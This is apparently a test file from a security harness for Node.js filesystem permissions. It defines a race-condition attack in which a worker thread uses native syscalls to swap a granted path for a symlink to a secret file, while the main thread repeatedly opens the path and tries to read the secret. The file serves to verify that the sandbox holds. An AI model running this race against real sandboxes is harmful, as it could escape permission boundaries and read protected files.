// SPDX-License-Identifier: Apache-2.0
import { type Attack, nativeGrants } from "../harness/attack.ts";
export const hostile: Attack = {
  claim:
    "A path that native code swaps in another thread between a granted file and a link outside never opens outside",
  proof: "secret",
  grants: (site) => [
    ...nativeGrants(site),
    `--allow-fs-read=${site.granted}`,
    `--allow-fs-write=${site.granted}`,
    "--allow-worker",
  ],
  program: async (cell) => {
    const fs = cell.node("node:fs");
    const { Worker } = cell.node("node:worker_threads");
    const source = `
      const { secret, granted, addon } = require("node:worker_threads").workerData;
      const native = require(addon);
      const { symlinkat, renameat2, linkat } = native.numbers;
      const swap = (name) => native.call(renameat2, -100, granted + name, -100, granted + "/target", 0);
      for (let turn = 0; turn < 1000000; turn++) {
        native.call(linkat, -100, granted + "/file.txt", -100, granted + "/next", 0);
        swap("/next");
        native.call(symlinkat, secret, -100, granted + "/other");
        swap("/other");
      }`;
    const { secret, granted, addon } = cell;
    cell.native();
    const worker = new Worker(source, { eval: true, workerData: { secret, granted, addon } });
    worker.on("error", () => {});
    await cell.event(worker, "online");
    const native = cell.native();
    const openat = native.numbers["openat"] ?? -1;
    const close = native.numbers["close"] ?? -1;
    const { dev, ino } = fs.statSync(granted);
    const until = Date.now() + cell.patience;
    while (Date.now() < until) {
      const fd = native.call(openat, -100, `${granted}/target`, 0, 0);
      if (fd < 0) continue;
      // A link's text may be emptied (ext4) between its look-up and its reading: the open then ends where the link lies.
      const opened = fs.fstatSync(fd);
      if (opened.dev === dev && opened.ino === ino) {
        native.call(close, fd);
        continue;
      }
      const bytes = Buffer.alloc(64);
      fs.readSync(fd, bytes, 0, 64, 0);
      native.call(close, fd);
      if (bytes.includes("SECRET-")) return cell.loot(bytes);
    }
    return cell.refused("EMPTY");
  },
};
